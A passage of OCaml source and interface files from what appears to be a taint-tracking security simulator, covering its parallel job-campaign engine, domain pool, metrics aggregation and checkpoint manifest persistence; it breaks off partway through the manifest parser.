  @ (if r.attempts > 1 then [ ("retries", r.attempts - 1) ] else [])
  @
  match r.status with
  | Failed f -> [ (kind_counter f.kind, 1) ]
  | Finished res ->
    let ms = Ptaint_mem.Memory.stats res.Ptaint_sim.Sim.machine.Ptaint_cpu.Machine.mem in
    [ ("instructions", res.Ptaint_sim.Sim.instructions);
      ("syscalls", res.Ptaint_sim.Sim.syscalls);
      ("tainted loads", ms.Ptaint_mem.Memory.tainted_loads);
      ("tainted stores", ms.Ptaint_mem.Memory.tainted_stores) ]
    @ (match res.Ptaint_sim.Sim.outcome with
       | Ptaint_sim.Sim.Alert _ -> [ ("alerts", 1) ]
       | _ -> [])

(* Per-label registry: deterministic counters from the simulation
   results plus wall-clock and concurrency histograms from the job
   timings (the non-deterministic rows are kept apart so batch outputs
   can still be diffed "modulo timings"). *)
let metrics_of results =
  let module M = Ptaint_obs.Metrics in
  let regs = ref [] (* label -> registry, reverse first-seen order *) in
  let registry label =
    match List.assoc_opt label !regs with
    | Some m -> m
    | None ->
      let m = M.create () in
      regs := (label, m) :: !regs;
      m
  in
  let concurrency_at t =
    List.fold_left
      (fun n r -> if r.timing.started <= t && t < r.timing.finished then n + 1 else n)
      0 results
  in
  List.iter
    (fun r ->
      let m = registry r.policy_label in
      List.iter (fun (name, by) -> M.inc ~by (M.counter m name)) (job_counters r);
      M.observe (M.histogram m "job wall ms")
        ((r.timing.finished -. r.timing.started) *. 1000.);
      (* Queue depth, post-hoc: how many jobs were in flight when this
         one started — the pool's effective concurrency. *)
      M.observe (M.histogram m "concurrent jobs")
        (float_of_int (concurrency_at r.timing.started)))
    results;
  List.rev !regs

let stats_of ~wall_seconds results =
  let detections = ref [] (* label -> count, reverse first-seen order *) in
  let bump label by =
    match List.assoc_opt label !detections with
    | Some n -> detections := (label, n + by) :: List.remove_assoc label !detections
    | None -> detections := (label, by) :: !detections
  in
  let failed = ref 0 and violations = ref 0 and insns = ref 0 and sys = ref 0 in
  let seen_order = ref [] in
  List.iter
    (fun r ->
      if not (List.mem r.policy_label !seen_order) then
        seen_order := r.policy_label :: !seen_order;
      if r.violation <> None then incr violations;
      match r.status with
      | Failed _ -> incr failed
      | Finished res ->
        insns := !insns + res.Ptaint_sim.Sim.instructions;
        sys := !sys + res.Ptaint_sim.Sim.syscalls;
        bump r.policy_label
          (match res.Ptaint_sim.Sim.outcome with Ptaint_sim.Sim.Alert _ -> 1 | _ -> 0))
    results;
  { jobs = List.length results;
    failed = !failed;
    violations = !violations;
    wall_seconds;
    instructions = !insns;
    syscalls = !sys;
    detections =
      List.rev_map (fun l -> (l, Option.value ~default:0 (List.assoc_opt l !detections)))
        !seen_order;
    metrics = metrics_of results }

let outcome_name r =
  match r.status with
  | Failed f -> kind_name f.kind
  | Finished res -> (
    match res.Ptaint_sim.Sim.outcome with
    | Ptaint_sim.Sim.Exited _ -> "exited"
    | Ptaint_sim.Sim.Alert _ -> "alert"
    | Ptaint_sim.Sim.Fault _ -> "fault"
    | Ptaint_sim.Sim.Trap _ -> "trap"
    | Ptaint_sim.Sim.Out_of_fuel -> "out-of-fuel")

let run ?domains ?trace ?job_timeout ?(retries = 0) ?(backoff = 0.05) jobs =
  let t0 = Unix.gettimeofday () in
  (* Load each distinct image once up front; workers restore the
     copy-on-write snapshot per run.  Template building never brings a
     job down: a program the loader rejects simply has no template and
     fails on its own worker, where [exec] contains it.  Spec jobs
     whose program was pre-built on the submitting domain (and that
     run injection-free — the fault injector boots its own session)
     share templates the same way. *)
  let templates =
    Ptaint_sim.Sim.templates_of
      (List.filter_map
         (fun j ->
           match j.j_work with
           | Sim_run (c, p) -> Some (c, p)
           | Spec ({ Job.injections = []; config; _ }, Some p) -> Some (config, p)
           | Spec _ | Thunk _ -> None)
         jobs)
  in
  let run_sim ~deadline config program =
    Ptaint_sim.Sim.run_with ?deadline templates config program
  in
  let results = Pool.map ?domains (exec ~job_timeout ~retries ~backoff run_sim) jobs in
  let wall_seconds = Unix.gettimeofday () -. t0 in
  (* Job spans are emitted from the submitting domain only, after the
     pool has drained — the trace is single-domain mutable state. *)
  (match trace with
   | Some tr ->
     List.iter
       (fun r ->
         Ptaint_obs.Trace.emit tr
           (Ptaint_obs.Event.Job
              { name = r.name;
                label = r.policy_label;
                t0_us = (r.timing.started -. t0) *. 1e6;
                dur_us = (r.timing.finished -. r.timing.started) *. 1e6;
                domain = r.timing.domain;
                outcome = outcome_name r }))
       results
   | None -> ());
  (results, stats_of ~wall_seconds results)

(* The unified {!Job.t} entry point: pre-build every payload once on
   the submitting domain (deduplicated by content hash, so a batch
   that submits the same source many times compiles it once), then
   run through the same pool/exec/templates machinery as [run]. *)
let run_jobs ?domains ?trace ?job_timeout ?retries ?backoff specs =
  let built : (string, Ptaint_asm.Program.t) Hashtbl.t = Hashtbl.create 16 in
  let prebuild spec =
    let key = Job.image_key spec in
    match Hashtbl.find_opt built key with
    | Some p -> Some p
    | None -> (
      match Job.program spec with
      | p ->
        Hashtbl.add built key p;
        Some p
      | exception _ ->
        (* Malformed source: no pre-built program, the worker rebuilds
           and [exec] classifies the toolchain failure. *)
        None)
  in
  run ?domains ?trace ?job_timeout ?retries ?backoff
    (List.map (fun spec -> of_job ?program:(prebuild spec) spec) specs)

(* One job, no pool — the daemon's per-worker entry point.  [run_sim]
   lets the caller route execution through its own template cache;
   [program] skips the payload build when the caller already holds the
   compiled image. *)
let run_job ?job_timeout ?(retries = 0) ?(backoff = 0.05) ?run_sim ?program spec =
  let run_sim =
    match run_sim with
    | Some f -> f
    | None -> fun ~deadline config p -> Ptaint_sim.Sim.run ?deadline ~config p
  in
  exec ~job_timeout ~retries ~backoff run_sim (of_job ?program spec)

let metrics_table_of ?(timings = false) metrics =
  let module M = Ptaint_obs.Metrics in
  let fmt_f v =
    if Float.is_integer v && Float.abs v < 1e15 then Printf.sprintf "%.0f" v
    else Printf.sprintf "%.2f" v
  in
  let rows =
    List.concat_map
      (fun (label, m) ->
        List.filter_map
          (fun (r : M.row) ->
            match r.M.kind with
            | "counter" -> Some [ label; r.M.name; string_of_int r.M.count ]
            | _ when timings ->
              Some
                [ label;
                  r.M.name;
                  Printf.sprintf "n=%d mean=%s min=%s max=%s" r.M.count (fmt_f r.M.mean)
                    (fmt_f r.M.min) (fmt_f r.M.max) ]
            | _ -> None)
          (M.rows m))
      metrics
  in
  Ptaint_report.Report.table ~headers:[ "policy"; "metric"; "value" ] rows

let metrics_table ?timings stats = metrics_table_of ?timings stats.metrics

let pp_stats ppf s =
  Format.fprintf ppf "campaign: %d jobs (%d failed, %d violations), %d guest instructions, %d syscalls; detections: %s [%.2fs wall]"
    s.jobs s.failed s.violations s.instructions s.syscalls
    (if s.detections = [] then "-"
     else
       String.concat ", "
         (List.map (fun (l, n) -> Printf.sprintf "%s=%d" l n) s.detections))
    s.wall_seconds
