(** Multicore batch simulation engine.

    The paper's evaluation is an embarrassingly parallel matrix —
    attacks × policies × (attack, benign) plus the SPEC-like
    false-positive workloads — and every future scaling direction
    (larger corpora, fuzzing campaigns, fault-injection sweeps) has
    the same shape.  A {!job} names one simulation: a pre-built guest
    program, the {!Ptaint_sim.Sim.config} to run it under, and an
    optional expectation on the result.  {!run} executes a batch on a
    fixed-size domain pool ({!Pool}) and returns one {!job_result} per
    job, in submission order regardless of scheduling, together with
    aggregate {!stats}.

    Isolation guarantees:
    - {b fuel}: each job's instruction budget is its config's
      [max_instructions]; a guest that spins exhausts only its own
      fuel, never the campaign's.
    - {b wall clock}: with [~job_timeout], each job additionally gets
      a wall-clock budget enforced cooperatively at fuel-slice
      boundaries; a job that overruns is reported as a {!Timeout}
      failure and its worker moves on.
    - {b exceptions}: a job whose execution raises is classified into
      the {!failure_kind} taxonomy and reported as {!Failed}; the
      remaining jobs run to completion.  One poisoned job can never
      bring down a worker domain or the pool.
    - {b retries}: failures classified as plain {!Crashed} (the only
      plausibly transient kind) are retried up to [~retries] times
      with exponential backoff; deterministic failures (timeouts,
      guest faults, loader errors) are never retried.

    Determinism: simulations share no mutable state — every job boots
    a fresh machine, memory image and kernel — so results are
    byte-identical whatever [~domains] is.  Build programs {e before}
    submission (jobs carry a built [Program.t], not a builder) so
    compilation caches and lazies are only touched from the
    submitting domain.

    Image sharing: {!run} loads each distinct image (same program,
    argv, env, taint sources) once via {!Ptaint_sim.Sim.prepare} and
    every job running it restores the copy-on-write memory snapshot
    instead of re-assembling and re-loading.  Snapshot pages are
    immutable, so concurrent restores from many domains are safe, and
    a restored boot is observationally identical to a fresh load —
    the sharing never changes results. *)

type job

val label_of_policy : Ptaint_cpu.Policy.t -> string
(** Canonical report label for a policy's mode: ["no protection"],
    ["control-data only"], ["pointer taintedness"]. *)

val of_job : ?program:Ptaint_asm.Program.t -> Job.t -> job
(** Lift a unified {!Job.t} into a campaign job.  [program] supplies a
    pre-built guest image (enabling snapshot-template sharing in
    {!run}); without it the worker builds the payload itself, and a
    toolchain failure is contained and classified as a loader error. *)

val job :
  name:string ->
  ?policy_label:string ->
  ?expect:(Ptaint_sim.Sim.result -> string option) ->
  config:Ptaint_sim.Sim.config ->
  Ptaint_asm.Program.t ->
  job
(** One simulation of [program] under [config].  [policy_label]
    (default: derived from [config.policy]) buckets the job in
    {!stats} detection counts.  [expect] inspects the result and
    returns a violation message when the job did not do what the
    campaign expected — violations are counted but do not fail the
    job, and an [expect] function that itself raises is reported as a
    violation, never as a job failure.

    Deprecated as a front-end entry point: build a {!Job.t} and submit
    it through {!run_jobs} so the CLI, the batch runner and the daemon
    all speak the same value; [job] remains for in-process callers
    that already hold a built program and a config. *)

val job_thunk :
  name:string ->
  ?policy_label:string ->
  ?expect:(Ptaint_sim.Sim.result -> string option) ->
  (unit -> Ptaint_sim.Sim.result) ->
  job
(** Escape hatch for work that is not a plain [Sim.run] (custom
    drivers, steppable sessions, fault-injected runs).  The thunk runs
    on a worker domain: it must not touch shared mutable state.  The
    campaign watchdog cannot arm a deadline inside an opaque thunk —
    pass [Sim.finish_sliced ~deadline] yourself if the thunk's guest
    can spin. *)

val job_name : job -> string

(** {1 Failure taxonomy}

    A job that produces no simulation result failed for one of four
    distinguishable reasons.  The taxonomy is typed so campaign
    consumers never string-match exception text: a watchdog
    {!Timeout} is an experiment parameter, a {!Guest_fault} is a
    property of the guest under test (unknown syscall, malformed
    arguments), a {!Loader_error} is a malformed input program, and
    only {!Crashed} is an actual harness failure — the sole kind
    retried. *)

type failure_kind =
  | Timeout of { seconds : float }
      (** wall-clock watchdog fired; [seconds] is the configured
          [job_timeout] *)
  | Guest_fault of { sysnum : int; pc : int; args : int list }
      (** the guest left the syscall ABI
          ({!Ptaint_os.Kernel.Guest_fault}) *)
  | Loader_error of { where : string; message : string }
      (** {!Ptaint_asm.Loader.Error} or {!Ptaint_asm.Assembler.Asm_error}
          ([where] is ["line N"] for assembler failures) *)
  | Crashed  (** any other exception — harness bug or transient fault *)

type failure = { kind : failure_kind; exn : string; backtrace : string }

type status =
  | Finished of Ptaint_sim.Sim.result
  | Failed of failure  (** the job failed; the campaign continued *)

val kind_name : failure_kind -> string
(** ["timeout"], ["guest fault"], ["loader error"], ["crashed"]. *)

type timing = {
  started : float;   (** [Unix.gettimeofday] at job start, on the worker *)
  finished : float;
  domain : int;      (** worker domain id the job ran on *)
}

type job_result = {
  name : string;
  policy_label : string;
  status : status;
  violation : string option;  (** [expect]'s verdict, when given *)
  attempts : int;  (** 1 + retries consumed (≥ 1) *)
  timing : timing;
  trace : (int * int) option;  (** the submitted job's correlation id *)
}

val outcome_name : job_result -> string
(** Deterministic one-word outcome for reports: the simulation
    outcome's name for {!Finished} jobs, {!kind_name} for {!Failed}
    ones.  Never includes exception text or wall-clock
    values, so report lines built from it diff cleanly across runs
    and [-j] settings. *)

val result_exn : job_result -> Ptaint_sim.Sim.result
(** The simulation result of a {!Finished} job; raises
    [Invalid_argument] on {!Failed}, with the failure kind, attempt
    count and the worker-side backtrace in the message. *)

type stats = {
  jobs : int;
  failed : int;  (** jobs with {!Failed} status, all kinds *)
  violations : int;
  wall_seconds : float;
  instructions : int;  (** guest instructions, summed over finished jobs *)
  syscalls : int;
  detections : (string * int) list;
      (** alerts per policy label, in first-submission order *)
  metrics : (string * Ptaint_obs.Metrics.t) list;
      (** per-policy-label registries, in first-submission order:
          counters ([jobs], [alerts], [instructions], [syscalls],
          [tainted loads], [tainted stores], plus per-failure-kind
          counters [timeouts]/[guest faults]/[loader errors]/[crashed]
          and [retries] when non-zero) and wall-clock/pool-concurrency
          histograms *)
}

val run :
  ?domains:int ->
  ?trace:Ptaint_obs.Trace.t ->
  ?log:Ptaint_obs.Log.t ->
  ?job_timeout:float ->
  ?retries:int ->
  ?backoff:float ->
  job list ->
  job_result list * stats
(** Execute the batch on [domains] workers (default
    {!Pool.recommended_domains}).  Results are in submission order.

    [job_timeout] arms a per-job wall-clock watchdog (seconds): each
    [Sim_run] job runs fuel-sliced with an absolute deadline checked
    at every slice boundary, and an overrun is reported as a
    {!Timeout} failure.  The check is cooperative, so granularity is
    one {!Ptaint_sim.Sim.default_slice} worth of guest execution
    (well under a millisecond).

    [retries] (default 0) re-runs a job whose failure classified as
    {!Crashed}, up to that many extra attempts, sleeping
    [backoff * 2^(attempt-1)] seconds (default backoff 0.05) between
    attempts.  The deadline is re-derived per attempt.

    With [trace], one {!Ptaint_obs.Event.Job} span per job (start
    offset, duration, worker domain, outcome) is emitted — from the
    submitting domain, after the pool drains — ready for the Chrome
    trace exporter.

    With [log], each failed job is logged at [Warn] with its typed
    taxonomy (kind, attempts, per-kind details) and trace id as
    structured fields — also from the submitting domain only. *)

val run_jobs :
  ?domains:int ->
  ?trace:Ptaint_obs.Trace.t ->
  ?log:Ptaint_obs.Log.t ->
  ?job_timeout:float ->
  ?retries:int ->
  ?backoff:float ->
  Job.t list ->
  job_result list * stats
(** {!run} over unified {!Job.t} values — the batch entry point the
    CLIs, the experiment matrices and the daemon all share.  Payloads
    are built once on the submitting domain (deduplicated by
    {!Job.image_key}, so a batch submitting the same source many
    times compiles it once) and injection-free jobs with a shared
    image boot from one snapshot template.  A job's own
    [Job.timeout] overrides [job_timeout]; its [Job.injections] run
    through {!Ptaint_fi.Fi.run_plan}. *)

val run_job :
  ?job_timeout:float ->
  ?retries:int ->
  ?backoff:float ->
  ?run_sim:
    (deadline:float option -> Ptaint_sim.Sim.config -> Ptaint_asm.Program.t ->
     Ptaint_sim.Sim.result) ->
  ?program:Ptaint_asm.Program.t ->
  Job.t ->
  job_result
(** Execute one {!Job.t} on the calling domain with the full
    containment machinery (watchdog deadline, typed failure
    classification, retry-with-backoff for {!Crashed}) but no pool —
    the daemon's per-worker entry point.  [run_sim] (default
    {!Ptaint_sim.Sim.run}) lets the caller route execution through
    its own snapshot-template cache; [program] skips the payload
    build when the compiled image is already at hand. *)

(** {1 Streaming campaigns}

    {!run}/{!run_jobs} accumulate one {!job_result} per job; at
    generative-campaign scale (10⁵–10⁶ jobs) that list — and the
    machines and kernels it pins — dwarfs the working set.
    {!run_stream} bounds memory at any job count: jobs are pulled
    lazily from a sequence, executed on a persistent worker pool
    through the per-domain arena boot path
    ({!Ptaint_sim.Sim.run_template_arena}), reduced on the worker to a
    compact {!job_summary}, and folded {e in submission order},
    whatever the scheduling, into an incremental {!tally}.  A streamed
    campaign's counters-only [metrics_table] is byte-identical to the
    batch path's at any [-j]. *)

type job_summary = {
  s_index : int;  (** submission index within the stream *)
  s_name : string;
  s_label : string;
  s_outcome : string;  (** {!outcome_name} *)
  s_counters : (string * int) list;  (** {!job_counters} *)
  s_failed : bool;
  s_violation : bool;
  s_detected : bool;
  s_alert_pc : int option;  (** detection site, for coverage fitness *)
  s_instructions : int;
  s_syscalls : int;
  s_attempts : int;
  s_trace : (int * int) option;  (** the submitted job's correlation id *)
}
(** Everything aggregation and the JSONL sink need from one job,
    extracted on the worker before its arena is rebooted — the full
    result is never retained. *)

val jsonl_of_summary : job_summary -> string
(** One JSON object (no trailing newline) for the on-disk result
    sink.  Deterministic: no wall-clock fields.  Jobs that carried a
    trace id append ["trace"] (16-digit hex) and ["span"] fields;
    traceless jobs keep the historic byte-exact shape. *)

type tally
(** Incremental campaign aggregate: the deterministic counter half of
    {!stats} plus the distinct-detection-site set.  Mutable;
    single-owner (the {!run_stream} pump). *)

val tally : unit -> tally
val tally_add : tally -> job_summary -> unit
val tally_jobs : tally -> int

val tally_sites : tally -> int list
(** Distinct alert pcs seen, ascending — the coverage-style fitness
    signal of a generative campaign. *)

val tally_stats : ?wall_seconds:float -> tally -> stats
(** The accumulated aggregate as a {!stats}.  Counters, detections and
    label order are byte-identical to what {!run} would have computed
    over the same jobs; the wall/concurrency histograms are absent
    (they cannot survive a checkpoint round-trip). *)

type tally_dump = {
  d_jobs : int;
  d_failed : int;
  d_violations : int;
  d_instructions : int;
  d_syscalls : int;
  d_detections : (string * int) list;
  d_counters : (string * (string * int) list) list;
  d_sites : int list;
}
(** Persistence image of a {!tally}: ints and strings only, so a dump
    round-trips byte-exactly through the checkpoint manifest. *)

val dump_tally : tally -> tally_dump
val load_tally : tally_dump -> tally

val run_stream :
  ?domains:int ->
  ?log:Ptaint_obs.Log.t ->
  ?job_timeout:float ->
  ?retries:int ->
  ?backoff:float ->
  ?window:int ->
  ?start:int ->
  ?tally:tally ->
  ?on_result:(job_summary -> unit) ->
  ?on_progress:(cursor:int -> tally -> unit) ->
  Job.t Seq.t ->
  tally * int
(** Stream the sequence through a persistent pool of [domains]
    workers and fold each completion into the tally; returns the
    tally and the final cursor (index one past the last job folded).

    At most [window] jobs (default 4× the worker count) are admitted
    beyond the flush cursor, which bounds both queue depth and the
    reorder buffer.  [on_result] is called once per job, in
    submission order — the JSONL sink hook.  [on_progress] is called
    with the new contiguous cursor after every flush — the checkpoint
    hook: every job with index < cursor is folded into the tally, no
    job ≥ cursor is.

    Resume: pass [start] (the manifest cursor), a [tally] rebuilt via
    {!load_tally}, and a sequence beginning at job [start].

    Workers share built programs and boot images through an internal
    content-hash cache and boot via the domain arena, so steady-state
    jobs allocate almost nothing.  [job_timeout]/[retries]/[backoff]
    behave as in {!run}. *)

val job_counters : job_result -> (string * int) list
(** The deterministic counter deltas this job contributes to its
    policy label's metrics registry, in registration order — the unit
    the daemon streams per finished job.  Merging every job's deltas
    into per-label registries in submission order rebuilds
    {!stats.metrics}'s counters exactly; {!metrics_of} is defined as
    that merge. *)

val failure_counters : failure_kind -> (string * int) list
(** The deltas a first-attempt {!Failed} job contributes —
    [[("jobs", 1); (kind, 1)]] with the {!job_counters} kind key.
    This is the requeue-accounting unit for supervisors that must
    synthesize a typed failure for a job they killed (dead worker,
    blown deadline, exhausted redeliveries): emitting exactly this
    shape keeps streamed tallies mergeable with cooperative-path
    results. *)

val metrics_table_of :
  ?timings:bool -> (string * Ptaint_obs.Metrics.t) list -> string
(** {!metrics_table} over bare per-label registries — for clients
    that rebuilt them from streamed {!job_counters} deltas. *)

val metrics_table : ?timings:bool -> stats -> string
(** Render {!stats.metrics} as an aligned table.  By default only the
    deterministic counter rows appear, so the output is identical
    across [~domains] settings and can be diffed in CI;
    [~timings:true] adds the wall-clock/concurrency histogram rows. *)

val pp_stats : Format.formatter -> stats -> unit
(** One line: deterministic aggregates first, wall time bracketed last
    so batch outputs can be compared "modulo timings". *)
