(** Multicore batch simulation engine.

    The paper's evaluation is an embarrassingly parallel matrix —
    attacks × policies × (attack, benign) plus the SPEC-like
    false-positive workloads — and every future scaling direction
    (larger corpora, fuzzing campaigns, sharded sweeps) has the same
    shape.  A {!job} names one simulation: a pre-built guest program,
    the {!Ptaint_sim.Sim.config} to run it under, and an optional
    expectation on the result.  {!run} executes a batch on a
    fixed-size domain pool ({!Pool}) and returns one {!job_result} per
    job, in submission order regardless of scheduling, together with
    aggregate {!stats}.

    Isolation guarantees:
    - {b fuel}: each job's instruction budget is its config's
      [max_instructions]; a guest that spins exhausts only its own
      fuel, never the campaign's.
    - {b exceptions}: a job whose execution raises (a guest tripping
      an unhandled [Memory.Fault] path, an assembler error, a broken
      expectation function) is reported as {!Crashed} and the
      remaining jobs run to completion.

    Determinism: simulations share no mutable state — every job boots
    a fresh machine, memory image and kernel — so results are
    byte-identical whatever [~domains] is.  Build programs {e before}
    submission (jobs carry a built [Program.t], not a builder) so
    compilation caches and lazies are only touched from the
    submitting domain.

    Image sharing: {!run} loads each distinct image (same program,
    argv, env, taint sources) once via {!Ptaint_sim.Sim.prepare} and
    every job running it restores the copy-on-write memory snapshot
    instead of re-assembling and re-loading.  Snapshot pages are
    immutable, so concurrent restores from many domains are safe, and
    a restored boot is observationally identical to a fresh load —
    the sharing never changes results. *)

type job

val job :
  name:string ->
  ?policy_label:string ->
  ?expect:(Ptaint_sim.Sim.result -> string option) ->
  config:Ptaint_sim.Sim.config ->
  Ptaint_asm.Program.t ->
  job
(** One simulation of [program] under [config].  [policy_label]
    (default: derived from [config.policy]) buckets the job in
    {!stats} detection counts.  [expect] inspects the result and
    returns a violation message when the job did not do what the
    campaign expected — violations are counted but do not fail the
    job. *)

val job_thunk :
  name:string ->
  ?policy_label:string ->
  ?expect:(Ptaint_sim.Sim.result -> string option) ->
  (unit -> Ptaint_sim.Sim.result) ->
  job
(** Escape hatch for work that is not a plain [Sim.run] (custom
    drivers, steppable sessions).  The thunk runs on a worker domain:
    it must not touch shared mutable state. *)

val job_name : job -> string

type failure = { exn : string; backtrace : string }

type status =
  | Finished of Ptaint_sim.Sim.result
  | Crashed of failure  (** the job raised; the campaign continued *)

type timing = {
  started : float;   (** [Unix.gettimeofday] at job start, on the worker *)
  finished : float;
  domain : int;      (** worker domain id the job ran on *)
}

type job_result = {
  name : string;
  policy_label : string;
  status : status;
  violation : string option;  (** [expect]'s verdict, when given *)
  timing : timing;
}

val result_exn : job_result -> Ptaint_sim.Sim.result
(** The simulation result of a {!Finished} job; raises
    [Invalid_argument] (with the job's failure) on {!Crashed}. *)

type stats = {
  jobs : int;
  crashed : int;
  violations : int;
  wall_seconds : float;
  instructions : int;  (** guest instructions, summed over finished jobs *)
  syscalls : int;
  detections : (string * int) list;
      (** alerts per policy label, in first-submission order *)
  metrics : (string * Ptaint_obs.Metrics.t) list;
      (** per-policy-label registries, in first-submission order:
          counters ([jobs], [crashed], [alerts], [instructions],
          [syscalls], [tainted loads], [tainted stores]) plus
          wall-clock and pool-concurrency histograms *)
}

val run :
  ?domains:int -> ?trace:Ptaint_obs.Trace.t -> job list -> job_result list * stats
(** Execute the batch on [domains] workers (default
    {!Pool.recommended_domains}).  Results are in submission order.
    With [trace], one {!Ptaint_obs.Event.Job} span per job (start
    offset, duration, worker domain, outcome) is emitted — from the
    submitting domain, after the pool drains — ready for the Chrome
    trace exporter. *)

val metrics_table : ?timings:bool -> stats -> string
(** Render {!stats.metrics} as an aligned table.  By default only the
    deterministic counter rows appear, so the output is identical
    across [~domains] settings and can be diffed in CI;
    [~timings:true] adds the wall-clock/concurrency histogram rows. *)

val pp_stats : Format.formatter -> stats -> unit
(** One line: deterministic aggregates first, wall time bracketed last
    so batch outputs can be compared "modulo timings". *)
