(** Fixed-size domain pool for order-preserving parallel maps.

    The pool underpins every batch runner in the tree
    ({!Ptaint_sim.Sim.run_many}, [Campaign.run]): workers are OCaml 5
    domains pulling indices from a shared atomic cursor, so work is
    balanced dynamically while results land in an array slot per input
    — output order always matches input order, whatever the
    scheduling.

    [?domains] counts the calling domain: [~domains:1] runs entirely
    inline (no domain is spawned), [~domains:n] spawns at most [n - 1]
    helpers and has the caller work alongside them.  The pool never
    spawns more helpers than there are items. *)

val recommended_domains : unit -> int
(** [Domain.recommended_domain_count], floored at 1. *)

val map : ?domains:int -> ('a -> 'b) -> 'a list -> 'b list
(** [map ~domains f xs] is [List.map f xs] computed on the pool.  If
    any application raises, the pool still drains, then the exception
    of the smallest-index failing item is re-raised (with its
    backtrace) on the calling domain. *)

val mapi : ?domains:int -> (int -> 'a -> 'b) -> 'a list -> 'b list
(** [map] with the item's submission index. *)

(** {1 Persistent service pool}

    [map] spins domains up and down per batch — right for a one-shot
    campaign, wrong for a long-lived daemon.  A {!service} keeps a
    fixed set of worker domains alive behind a task queue; the
    ptaintd scheduler posts one closure per admitted job.  Unlike
    {!map}, [?domains] here counts {e worker} domains: the caller
    (the daemon's event loop) never executes tasks itself. *)

type service

val service : ?domains:int -> unit -> service
(** Spawn [domains] (default {!recommended_domains}) worker domains
    blocking on an empty task queue. *)

val service_size : service -> int
(** Number of worker domains. *)

val post : service -> (unit -> unit) -> unit
(** Enqueue a task; an idle worker picks it up.  Exceptions escaping
    the task are swallowed — a poisoned task never kills a worker
    domain; report outcomes through the closure.  Raises
    [Invalid_argument] after {!stop}. *)

val in_flight : service -> int
(** Queued plus currently-executing tasks. *)

val quiesce : service -> unit
(** Block until the queue is empty and every worker is idle. *)

val stop : service -> unit
(** Let the queue drain, then join every worker.  The service cannot
    be restarted. *)
