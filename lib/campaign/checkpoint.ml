(* Campaign checkpoint manifests.

   A streaming campaign periodically persists (identity, cursor,
   tally) so a killed run restarts where it left off.  The format is
   deliberately plain text, line-based and tab-separated: every field
   of a {!Campaign.tally_dump} is an int or a string, labels and
   counter names never contain tabs or newlines, and integers
   round-trip exactly — so a resumed campaign's final report is
   byte-identical to an uninterrupted one.

   Writes are atomic and durable: temp file in the same directory,
   fsync'd before the rename so the rename can never promote
   unflushed data, then a best-effort directory fsync to persist the
   rename itself.  Any failure along the way raises the typed
   {!Checkpoint_write_error} with the temp file removed and the
   previous manifest untouched — a full disk costs one checkpoint,
   never the resume point.  The [end] sentinel additionally guards
   against a torn write surviving a non-atomic filesystem: a manifest
   without it is rejected. *)

type manifest = {
  id : string;  (* campaign identity; resume refuses a mismatch *)
  total : int;  (* total jobs the campaign will run *)
  cursor : int;  (* jobs [0, cursor) are folded into [dump] *)
  elapsed_us : int;  (* cumulative wall time over all prior runs *)
  dump : Campaign.tally_dump;
}

let magic = "ptaint-checkpoint v1"

let render m =
  let d = m.dump in
  let b = Buffer.create 1024 in
  let line fmt = Printf.ksprintf (fun s -> Buffer.add_string b s; Buffer.add_char b '\n') fmt in
  line "%s" magic;
  line "id\t%s" m.id;
  line "total\t%d" m.total;
  line "cursor\t%d" m.cursor;
  line "elapsed_us\t%d" m.elapsed_us;
  line "jobs\t%d" d.Campaign.d_jobs;
  line "failed\t%d" d.Campaign.d_failed;
  line "violations\t%d" d.Campaign.d_violations;
  line "instructions\t%d" d.Campaign.d_instructions;
  line "syscalls\t%d" d.Campaign.d_syscalls;
  List.iter (fun pc -> line "site\t%d" pc) d.Campaign.d_sites;
  List.iter (fun (l, n) -> line "detect\t%s\t%d" l n) d.Campaign.d_detections;
  List.iter
    (fun (l, rows) ->
      line "label\t%s" l;
      List.iter (fun (name, v) -> line "counter\t%s\t%d" name v) rows)
    d.Campaign.d_counters;
  line "end";
  Buffer.contents b

exception Checkpoint_write_error of { path : string; reason : string }

let write_error path reason = raise (Checkpoint_write_error { path; reason })

let write_all fd s =
  let b = Bytes.unsafe_of_string s in
  let n = Bytes.length b in
  let rec go off =
    if off < n then
      match Unix.write fd b off (n - off) with
      | w -> go (off + w)
      | exception Unix.Unix_error (Unix.EINTR, _, _) -> go off
  in
  go 0

(* Persist the rename: fsync the containing directory.  Best-effort —
   some filesystems refuse O_RDONLY directory fsync — but a failure
   here only risks losing the *newest* manifest to a crash, never
   corrupting one, so it is not an error. *)
let fsync_dir dir =
  match Unix.openfile dir [ Unix.O_RDONLY ] 0 with
  | fd ->
    (try Unix.fsync fd with Unix.Unix_error _ -> ());
    (try Unix.close fd with Unix.Unix_error _ -> ())
  | exception Unix.Unix_error _ -> ()

let save ~path m =
  let text = render m in
  let dir = Filename.dirname path in
  let tmp =
    try Filename.temp_file ~temp_dir:dir "ckpt" ".tmp"
    with Sys_error e -> write_error path e
  in
  let cleanup () = try Sys.remove tmp with Sys_error _ -> () in
  (try
     let fd = Unix.openfile tmp [ Unix.O_WRONLY; Unix.O_TRUNC ] 0o600 in
     Fun.protect
       ~finally:(fun () -> try Unix.close fd with Unix.Unix_error _ -> ())
       (fun () ->
         write_all fd text;
         (* the rename below must never promote unflushed data *)
         Unix.fsync fd)
   with
   | Unix.Unix_error (e, op, _) ->
     cleanup ();
     write_error path (Printf.sprintf "%s: %s" op (Unix.error_message e))
   | Sys_error e ->
     cleanup ();
     write_error path e);
  (try Sys.rename tmp path
   with Sys_error e ->
     cleanup ();
     write_error path e);
  fsync_dir dir

(* Parser: a tiny fold over tab-split lines.  Unknown keys are errors
   — a manifest is a contract between two runs of the same binary,
   not a config format with forward compatibility. *)
let parse text =
  let ( let* ) = Result.bind in
  let lines = String.split_on_char '\n' text in
  let lines = List.filter (fun l -> l <> "") lines in
  match lines with
  | [] -> Error "empty manifest"
  | first :: rest ->
    if first <> magic then Error (Printf.sprintf "bad manifest magic %S" first)
    else begin
      let id = ref None
      and total = ref None
      and cursor = ref None
      (* elapsed_us is accepted-if-absent: manifests written before
         the field existed resume with a zero wall-clock baseline *)
      and elapsed_us = ref 0
      and jobs = ref 0
      and failed = ref 0
      and violations = ref 0
      and instructions = ref 0
      and syscalls = ref 0 in
      let sites = ref [] (* reverse *)
      and detections = ref [] (* reverse *)
      and counters = ref [] (* (label, reverse rows) list, reverse *)
      and finished = ref false in
      let int_of key s =
        match int_of_string_opt s with
        | Some n -> Ok n
        | None -> Error (Printf.sprintf "manifest: bad integer %S for %s" s key)
      in
      let step acc line =
        let* () = acc in
        if !finished then Error "manifest: content after end sentinel"
        else
          match String.split_on_char '\t' line with
          | [ "id"; v ] -> id := Some v; Ok ()
          | [ "total"; v ] ->
            let* n = int_of "total" v in
            total := Some n;
            Ok ()
          | [ "cursor"; v ] ->
